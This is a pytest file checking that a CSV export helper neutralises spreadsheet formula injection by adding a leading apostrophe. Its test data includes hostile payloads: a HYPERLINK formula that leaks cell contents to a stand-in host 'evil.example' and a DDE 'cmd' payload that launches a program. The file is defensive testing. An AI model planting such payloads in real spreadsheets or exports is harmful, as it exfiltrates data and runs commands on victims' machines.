"""The one CSV helper: a cell a spreadsheet would run as a formula comes out as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from carehub.spreadsheets import csv_bytes, csv_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),
        ("Douleur = 4/10", "Douleur = 4/10"),
        (None, ""),
        (12, "12"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe(value, cell):
    assert csv_cell(value) == cell


def test_a_table_is_semicolon_separated_with_a_byte_order_mark_and_every_cell_guarded():
    content = csv_bytes(["=header"], [[HYPERLINK], ["plain; with a semicolon"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert (content[:3], rows) == (
        b"\xef\xbb\xbf",
        [["'=header"], ["'" + HYPERLINK], ["plain; with a semicolon"]],
    )
